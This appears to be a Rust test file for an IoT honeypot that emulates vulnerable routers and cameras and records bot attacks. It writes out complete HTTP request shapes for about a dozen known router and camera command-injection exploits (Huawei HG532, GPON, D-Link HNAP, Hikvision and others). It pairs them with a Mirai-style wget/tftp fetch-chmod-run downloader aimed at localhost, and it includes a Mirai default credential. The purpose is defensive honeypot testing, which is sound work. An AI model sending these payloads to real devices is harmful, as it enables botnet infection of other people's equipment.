@@ -1,0 +1,502 @@
+//! The HTTP door without sockets: every exploit of the table, sent as a bot sends
+//! it, runs its command line on the device and gets its endpoint's answer; the
+//! server's own pages and limits; and the device is the one the telnet door shows.
+
+#![allow(
+    clippy::indexing_slicing,
+    clippy::unwrap_used,
+    clippy::expect_used,
+    clippy::panic
+)]
+
+use std::sync::Arc;
+use std::time::{Duration, Instant, UNIX_EPOCH};
+
+use busybait_device::auth::{parse_credential_table, AuthMode, AuthPolicy, MIRAI_CREDENTIALS_TSV};
+use busybait_device::clock::Now;
+use busybait_device::profile::{Device, DownloadTool, Profile};
+use busybait_device::shell::FetchResult;
+use busybait_device::DeviceState;
+use busybait_events::{EventKind, Peer, Protocol, SessionId};
+use busybait_http::session::{HttpConfig, Session};
+use busybait_http::HttpLimits;
+use busybait_intel::exploits::Table;
+
+fn device(profile: &str) -> Arc<busybait_telnet::SessionConfig> {
+    let profile = Profile::builtin()
+        .unwrap()
+        .into_iter()
+        .find(|p| p.name == profile)
+        .unwrap();
+    let device = Arc::new(Device::new(Arc::new(profile), 7));
+    let auth = AuthPolicy::new(
+        AuthMode::Sticky,
+        parse_credential_table(MIRAI_CREDENTIALS_TSV),
+        Duration::from_secs(3600),
+        1000,
+    );
+    let base = Arc::new(busybait_device::vfs::BaseFs::new(&device, 1_700_000_000));
+    Arc::new(busybait_telnet::SessionConfig {
+        state: Arc::new(DeviceState {
+            device,
+            base,
+            auth,
+            files: busybait_device::vfs::SourceFiles::new(Duration::from_secs(3600), 100, 64 << 20),
+            vfs_limits: busybait_device::vfs::VfsLimits::default(),
+            // Downloads go to the edge (here: the test, which answers them).
+            shell: busybait_device::shell::ShellConfig {
+                fetch: true,
+                ..Default::default()
+            },
+        }),
+        limits: busybait_telnet::Limits::default(),
+        encoded: Default::default(),
+    })
+}
+
+fn config(profile: &str) -> Arc<HttpConfig> {
+    Arc::new(HttpConfig {
+        device: device(profile),
+        exploits: Arc::new(Table::builtin()),
+        limits: HttpLimits::default(),
+    })
+}
+
+fn at() -> Now {
+    Now {
+        mono: Instant::now(),
+        wall: UNIX_EPOCH + Duration::from_secs(1_795_000_000),
+    }
+}
+
+/// One connection, driven as the edge drives it; downloads answered with `fetched`.
+struct Exchange {
+    out: Vec<u8>,
+    events: Vec<EventKind>,
+    fetched: Vec<String>,
+    samples: Vec<(Vec<u8>, Vec<u8>)>,
+}
+
+fn exchange(config: &Arc<HttpConfig>, port: u16, request: &[u8], fetched: &[u8]) -> Exchange {
+    let now = at();
+    let peer = Peer {
+        src: "127.0.0.9:40000".parse().unwrap(),
+        dst: format!("127.0.0.1:{port}").parse().unwrap(),
+        protocol: Protocol::Http,
+    };
+    let mut s = Session::new(config.clone(), SessionId::from_u64(0x77), peer, now);
+    s.handle_input(now, request);
+    let mut fetched_urls = Vec::new();
+    let mut rounds = 0;
+    while !s.is_closed() {
+        rounds += 1;
+        assert!(rounds < 10_000, "the session never answered");
+        while let Some((id, req)) = s.poll_fetch() {
+            fetched_urls.push(req.url);
+            s.handle_fetch_result(now, id, FetchResult::Data(fetched.to_vec()));
+        }
+        if s.is_computing() {
+            s.handle_timeout(now);
+        } else if !s.is_closed() {
+            let t = s.poll_timeout().unwrap();
+            s.handle_timeout(Now {
+                mono: t,
+                wall: now.wall,
+            });
+        }
+    }
+    let mut out = Vec::new();
+    s.poll_transmit(&mut out);
+    let events = std::iter::from_fn(|| s.poll_event())
+        .map(|e| e.kind)
+        .collect();
+    let samples = std::iter::from_fn(|| s.poll_sample())
+        .map(|f| (f.path, f.data.as_ref().clone()))
+        .collect();
+    Exchange {
+        out,
+        events,
+        fetched: fetched_urls,
+        samples,
+    }
+}
+
+fn ids(events: &[EventKind]) -> Vec<&'static str> {
+    events.iter().map(EventKind::event_id).collect()
+}
+
+/// The response split into its head (without `Date:`) and body.
+fn split(out: &[u8]) -> (String, String) {
+    let text = String::from_utf8_lossy(out).into_owned();
+    let (head, body) = text.split_once("\r\n\r\n").unwrap();
+    let head: Vec<&str> = head
+        .split("\r\n")
+        .filter(|l| !l.starts_with("Date: "))
+        .collect();
+    (head.join("\n"), body.to_string())
+}
+
+#[test]
+fn jaws_shell_runs_the_query_and_answers_with_its_output() {
+    let config = config("xiongmai-dvr");
+    let x = exchange(
+        &config,
+        80,
+        b"GET /shell?cd+/var;echo+hello%20there>greeting;cat+greeting;ls+/nowhere HTTP/1.1\r\nHost: 127.0.0.1\r\nUser-Agent: Hello, world\r\n\r\n",
+        b"",
+    );
+    let (head, body) = split(&x.out);
+    assert_eq!(
+        body, "hello there\n",
+        "stdout is the page; stderr goes to the server's log"
+    );
+    assert_eq!(
+        head,
+        "HTTP/1.1 200 OK\nServer: JAWS/1.0\nConnection: close\nContent-type: text/html\nContent-Length: 12"
+    );
+    assert_eq!(
+        ids(&x.events),
+        [
+            "cowrie.session.connect",
+            "busybait.exploit",
+            "cowrie.command.input",
+            "busybait.http.request",
+            "busybait.session.end",
+            "cowrie.session.closed"
+        ]
+    );
+    let EventKind::Exploit { name, command, .. } = &x.events[1] else {
+        panic!()
+    };
+    assert_eq!(name, "jaws-shell");
+    assert_eq!(
+        command,
+        "cd /var;echo hello there>greeting;cat greeting;ls /nowhere"
+    );
+    let EventKind::HttpRequest {
+        method,
+        path,
+        headers,
+        status,
+        ..
+    } = &x.events[3]
+    else {
+        panic!()
+    };
+    assert_eq!(
+        (method.as_str(), path.as_str(), *status),
+        ("GET", "/shell", 200)
+    );
+    assert_eq!(
+        headers[1],
+        ("User-Agent".to_string(), "Hello, world".to_string())
+    );
+    // The file it wrote is a sample.
+    assert_eq!(
+        x.samples,
+        [(b"/var/greeting".to_vec(), b"hello there\n".to_vec())]
+    );
+}
+
+/// Each entry as a bot sends it, with `cmd` in its place (URL-encoded where the
+/// field is).
+fn exploit_request(name: &str, cmd: &str) -> (u16, Vec<u8>) {
+    let url = |s: &str| -> String {
+        s.bytes()
+            .map(|b| match b {
+                b' ' => "+".to_string(),
+                b'A'..=b'Z' | b'a'..=b'z' | b'0'..=b'9' | b'/' | b'.' | b'-' | b'_' | b':' => {
+                    (b as char).to_string()
+                }
+                _ => format!("%{b:02X}"),
+            })
+            .collect()
+    };
+    let post = |port: u16, path: &str, headers: &str, body: String| -> (u16, Vec<u8>) {
+        (
+            port,
+            format!(
+                "POST {path} HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\n{headers}Content-Length: {}\r\n\r\n{body}",
+                body.len()
+            )
+            .into_bytes(),
+        )
+    };
+    let get = |port: u16, target: String| -> (u16, Vec<u8>) {
+        (
+            port,
+            format!("GET {target} HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n").into_bytes(),
+        )
+    };
+    match name {
+        "huawei-hg532-upgrade" => post(
+            37215,
+            "/ctrlt/DeviceUpgrade_1",
+            "Authorization: Digest username=\"dslf-config\", realm=\"HuaweiHomeGateway\", nonce=\"88645cefb1f9ede0e336e3569d75ee30\", uri=\"/ctrlt/DeviceUpgrade_1\", response=\"3612f843a42db38f48f59d2a3597e19c\", algorithm=\"MD5\", qop=\"auth\", nc=00000001, cnonce=\"248d1a2560100669\"\r\nSOAPAction: urn:schemas-upnp-org:service:WANPPPConnection:1#Upgrade\r\n",
+            format!("<?xml version=\"1.0\" ?><s:Envelope xmlns:s=\"http://schemas.xmlsoap.org/soap/envelope/\" s:encodingStyle=\"http://schemas.xmlsoap.org/soap/encoding/\"><s:Body><u:Upgrade xmlns:u=\"urn:schemas-upnp-org:service:WANPPPConnection:1\"><NewStatusURL>$({cmd})</NewStatusURL><NewDownloadURL>$(echo HUAWEIUPNP)</NewDownloadURL></u:Upgrade></s:Body></s:Envelope>"),
+        ),
+        "realtek-miniigd-portmapping" => post(
+            52869,
+            "/picsdesc.xml",
+            "SOAPAction: urn:schemas-upnp-org:service:WANIPConnection:1#AddPortMapping\r\n",
+            format!("<?xml version=\"1.0\" ?><s:Envelope xmlns:s=\"http://schemas.xmlsoap.org/soap/envelope/\"><s:Body><u:AddPortMapping xmlns:u=\"urn:schemas-upnp-org:service:WANIPConnection:1\"><NewRemoteHost></NewRemoteHost><NewExternalPort>47450</NewExternalPort><NewProtocol>TCP</NewProtocol><NewInternalPort>44382</NewInternalPort><NewInternalClient>`{cmd}`</NewInternalClient><NewEnabled>1</NewEnabled><NewPortMappingDescription>syncthing</NewPortMappingDescription><NewLeaseDuration>0</NewLeaseDuration></u:AddPortMapping></s:Body></s:Envelope>"),
+        ),
+        "gpon-diag-form" => post(
+            8080,
+            "/GponForm/diag_Form?images/",
+            "",
+            format!("XWebPageName=diag&diag_action=ping&wan_conlist=0&dest_host=`{}`;{}&ipv=0", url(cmd), url(cmd)),
+        ),
+        "jaws-shell" => get(80, format!("/shell?{}", url(cmd))),
+        "netgear-setup-cgi" => get(
+            80,
+            format!("/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd={}&curpath=/&currentsetting.htm=1", url(cmd)),
+        ),
+        "dlink-hnap-soapaction" => post(
+            80,
+            "/HNAP1/",
+            &format!("SOAPAction: \"http://purenetworks.com/HNAP1/`{cmd}`\"\r\n"),
+            String::new(),
+        ),
+        "tr064-set-ntp-servers" => post(
+            7547,
+            "/UD/act?1",
+            "SOAPAction: urn:dslforum-org:service:Time:1#SetNTPServers\r\n",
+            format!("<?xml version=\"1.0\"?><SOAP-ENV:Envelope xmlns:SOAP-ENV=\"http://schemas.xmlsoap.org/soap/envelope/\"><SOAP-ENV:Body><u:SetNTPServers xmlns:u=\"urn:dslforum-org:service:Time:1\"><NewNTPServer1>`{cmd}`</NewNTPServer1><NewNTPServer2></NewNTPServer2></u:SetNTPServers></SOAP-ENV:Body></SOAP-ENV:Envelope>"),
+        ),
+        "vacron-board-cgi" => get(80, format!("/board.cgi?cmd={}", url(cmd))),
+        "zyxel-viewlog" => post(
+            80,
+            "/cgi-bin/ViewLog.asp",
+            "Content-Type: application/x-www-form-urlencoded\r\n",
+            format!("remote_submit_Flag=1&remote_syslog_Flag=1&RemoteSyslogSupported=1&LogFlag=0&remote_host=%3b{}%3b%23&remoteSubmit=Save", url(cmd)),
+        ),
+        "tplink-archer-locale" => get(
+            80,
+            format!("/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$({})", url(cmd)),
+        ),
+        "hikvision-weblanguage" => (
+            80,
+            {
+                let body = format!("<?xml version=\"1.0\" encoding=\"UTF-8\"?><language>$({cmd})</language>");
+                format!(
+                    "PUT /SDK/webLanguage HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/x-www-form-urlencoded; charset=UTF-8\r\nContent-Length: {}\r\n\r\n{body}",
+                    body.len()
+                )
+                .into_bytes()
+            },
+        ),
+        other => panic!("no request shape for {other}"),
+    }
+}
+
+#[test]
+fn every_exploit_of_the_table_runs_its_downloader_on_a_profile_that_exposes_it() {
+    let table = Table::builtin();
+    let profiles: Vec<Profile> = Profile::builtin().unwrap();
+    let mut covered = Vec::new();
+    for entry in &table.entries {
+        let profile = profiles
+            .iter()
+            .find(|p| {
+                p.http
+                    .as_ref()
+                    .is_some_and(|h| h.exploits.contains(&entry.name))
+            })
+            .unwrap_or_else(|| panic!("no profile exposes {}", entry.name));
+        let config = config(&profile.name);
+        // A downloader with the tool the device has, into a writable directory.
+        let script = format!("{}.sh", entry.name);
+        let dir = if profile.mounts.contains("tmpfs /tmp ") {
+            "/tmp"
+        } else {
+            "/var"
+        };
+        let cmd = if profile.download_tools.contains(&DownloadTool::Wget) {
+            format!(
+                "cd {dir}; wget http://127.0.0.1:8000/{script}; chmod 777 {script}; sh {script}"
+            )
+        } else {
+            format!("cd {dir}; tftp -g -r {script} 127.0.0.1; chmod 777 {script}; sh {script}")
+        };
+        let (port, request) = exploit_request(&entry.name, &cmd);
+        let x = exchange(&config, port, &request, b"echo dropped\n");
+        let name = &entry.name;
+        let exploit = x.events.iter().find_map(|e| match e {
+            EventKind::Exploit { name, urls, .. } => Some((name.clone(), urls.clone())),
+            _ => None,
+        });
+        let urls = busybait_intel::triage::urls(cmd.as_bytes());
+        assert_eq!(urls.len(), 1, "{cmd}");
+        assert_eq!(exploit, Some((name.clone(), urls)), "{name}");
+        // Once, or twice where the shape repeats the command (GPON's `cmd`;cmd).
+        assert!(
+            !x.fetched.is_empty() && x.fetched.iter().all(|u| *u == x.fetched[0]),
+            "{name}: fetched {:?} {:?}",
+            x.fetched,
+            ids(&x.events)
+        );
+        let url = &x.fetched[0];
+        assert!(
+            url.ends_with(&format!(
+                "127.0.0.1:{}/{script}",
+                if url.starts_with("tftp") { 69 } else { 8000 }
+            )),
+            "{url}"
+        );
+        assert!(
+            x.events
+                .iter()
+                .any(|e| matches!(e, EventKind::DownloadRequest { url: u, .. } if u == url)),
+            "{name}: {:?}",
+            ids(&x.events)
+        );
+        assert!(
+            x.samples.iter().any(
+                |(path, data)| *path == format!("{dir}/{script}").into_bytes()
+                    && data == b"echo dropped\n"
+            ),
+            "{name}: samples {:?}",
+            x.samples
+                .iter()
+                .map(|(p, _)| String::from_utf8_lossy(p))
+                .collect::<Vec<_>>()
+        );
+        let (head, body) = split(&x.out);
+        let status: u16 = head[9..12].parse().unwrap();
+        assert_eq!(status, entry.response.status, "{name}");
+        if !entry.response.body.contains("{output}") {
+            assert_eq!(body, entry.response.body, "{name}");
+        }
+        if let Some(server) = &entry.response.server {
+            assert!(
+                head.contains(&format!("\nServer: {server}\n")),
+                "{name}: {head}"
+            );
+        }
+        covered.push(name.clone());
+    }
+    assert_eq!(covered.len(), table.entries.len());
+}
+
+#[test]
+fn an_exploit_on_another_port_of_the_device_is_a_404() {
+    // The HG532 endpoint is on 37215; on the router's port 80 it does not exist.
+    let config = config("router-mips");
+    let (_, request) = exploit_request("huawei-hg532-upgrade", "id");
+    let x = exchange(&config, 80, &request, b"");
+    assert!(
+        x.out.starts_with(b"HTTP/1.1 401 Unauthorized\r\n"),
+        "{}",
+        String::from_utf8_lossy(&x.out)
+    );
+    assert!(!ids(&x.events).contains(&"busybait.exploit"));
+    // On a port no entry names (an operator's remap), every entry of the profile is
+    // served.
+    let x = exchange(&config, 18080, &request, b"");
+    assert!(ids(&x.events).contains(&"busybait.exploit"));
+}
+
+#[test]
+fn basic_authentication_uses_the_device_credentials() {
+    let config = config("router-mips");
+    let x = exchange(&config, 80, b"GET / HTTP/1.1\r\nHost: x\r\n\r\n", b"");
+    let (head, body) = split(&x.out);
+    assert_eq!(
+        head,
+        "HTTP/1.1 401 Unauthorized\nConnection: close\nContent-type: text/html\nWWW-Authenticate: Basic realm=\"NETGEAR DGN1000\"\nContent-Length: 122"
+    );
+    assert_eq!(body, "<HTML><HEAD><TITLE>401 Unauthorized</TITLE></HEAD>\n<BODY><H1>401 Unauthorized</H1>\nAuthentication required\n</BODY></HTML>\n");
+    // root:xc3511, base64.
+    let x = exchange(
+        &config,
+        80,
+        b"GET / HTTP/1.1\r\nAuthorization: Basic cm9vdDp4YzM1MTE=\r\n\r\n",
+        b"",
+    );
+    assert!(x.out.starts_with(b"HTTP/1.1 200 OK\r\n"));
+    assert!(x.events.iter().any(|e| matches!(e, EventKind::LoginSuccess { username, password } if username == "root" && password == "xc3511")));
+}
+
+#[test]
+fn the_login_form_of_a_server_without_basic_authentication() {
+    let config = config("xiongmai-dvr");
+    let x = exchange(&config, 80, b"GET / HTTP/1.0\r\n\r\n", b"");
+    let (_, body) = split(&x.out);
+    assert!(
+        body.contains("<title>WEB SERVICE</title>") && body.contains("action=\"/login.cgi\""),
+        "{body}"
+    );
+    let form =
+        b"POST /login.cgi HTTP/1.1\r\nContent-Length: 33\r\n\r\nusername=admin&password=wrong%21x";
+    let x = exchange(&config, 80, form, b"");
+    assert!(x.events.iter().any(|e| matches!(e, EventKind::LoginFailed { username, password } if username == "admin" && password == "wrong!x")));
+    let x = exchange(&config, 80, b"GET /missing HTTP/1.1\r\n\r\n", b"");
+    assert!(x
+        .out
+        .starts_with(b"HTTP/1.1 404 Not Found\r\nServer: JAWS/1.0\r\n"));
+}
+
+#[test]
+fn oversized_and_slow_requests_get_their_status_and_a_limit_event() {
+    let config = config("xiongmai-dvr");
+    let mut big = b"GET /".to_vec();
+    big.extend(std::iter::repeat_n(b'a', 9000));
+    let x = exchange(&config, 80, &big, b"");
+    assert!(
+        x.out.starts_with(b"HTTP/1.1 431 "),
+        "{}",
+        String::from_utf8_lossy(&x.out[..40])
+    );
+    assert!(x.events.iter().any(|e| matches!(
+        e,
+        EventKind::LimitHit {
+            limit: "http_max_head_bytes",
+            value: 8192
+        }
+    )));
+    // Half a request, then nothing: 408 at the request timeout.
+    let x = exchange(&config, 80, b"GET / HTTP/1.1\r\nHost:", b"");
+    assert!(x.out.starts_with(b"HTTP/1.1 408 Request Timeout\r\n"));
+    assert!(x.events.iter().any(|e| matches!(
+        e,
+        EventKind::LimitHit {
+            limit: "http_request_timeout",
+            value: 30
+        }
+    )));
+}
+
+#[test]
+fn a_file_dropped_through_the_web_server_is_there_for_the_same_source_over_telnet() {
+    let config = config("xiongmai-dvr");
+    exchange(
+        &config,
+        80,
+        b"GET /shell?echo+payload>/var/dropped HTTP/1.1\r\n\r\n",
+        b"",
+    );
+    let now = at();
+    let peer = Peer {
+        src: "127.0.0.9:40001".parse().unwrap(),
+        dst: "127.0.0.1:23".parse().unwrap(),
+        protocol: Protocol::Telnet,
+    };
+    let attach = busybait_telnet::Attach {
+        pty: false,
+        width: 0,
+        height: 0,
+        command: Some(b"cat /var/dropped".to_vec()),
+    };
+    let mut shell = busybait_telnet::Session::attached(
+        config.device.clone(),
+        SessionId::from_u64(1),
+        peer,
+        now,
+        attach,
+    );
+    shell.end_of_stdin(now);
+    let mut out = Vec::new();
+    shell.poll_transmit(&mut out);
+    assert_eq!(out, b"payload\n");
+}
